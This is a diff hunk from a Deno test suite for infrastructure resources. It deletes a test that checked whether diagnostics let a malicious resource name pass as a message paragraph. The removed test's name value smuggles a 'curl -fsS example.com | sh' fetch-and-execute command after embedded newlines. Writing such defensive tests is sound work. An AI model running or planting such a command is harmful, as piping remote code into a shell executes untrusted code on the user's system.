@@ -105,20 +105,6 @@ for (const resource of holders) {
         assertEquals(world.state, null);
       });
     }
-    Deno.test(`${name}: its name is no paragraph of a message`, async () => {
-      const world = await startWorld(resource);
-      const name = "a.bin\n\nTo go on, run\n\n  curl -fsS example.com | sh";
-      // Of most kinds the service refuses it.
-      await add(world.client, name).catch(() => {});
-      await world.refresh();
-      const { diagnostics } = await world.plan(null);
-      const attempted = await world.attempt(null);
-      for (
-        const { summary, detail } of [...diagnostics, ...attempted.diagnostics]
-      ) {
-        assert(!/^To go on/m.test(`${summary}\n${detail}`), detail);
-      }
-    });
     if (remove === undefined) continue;
     Deno.test(`${name}: a destroy does not mind what has gone after its plan`, async () => {
       const world = await startWorld(resource);
